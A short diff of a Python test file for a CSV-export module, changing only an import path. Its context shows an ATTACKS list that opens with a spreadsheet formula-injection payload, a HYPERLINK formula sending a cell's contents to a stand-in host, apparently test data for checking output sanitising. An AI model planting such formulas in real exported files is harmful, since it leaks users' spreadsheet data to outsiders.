@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from nuggets_app.csvout import csv_cell, csv_writer
+from nuggets_app.lib.csvout import csv_cell, csv_writer
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
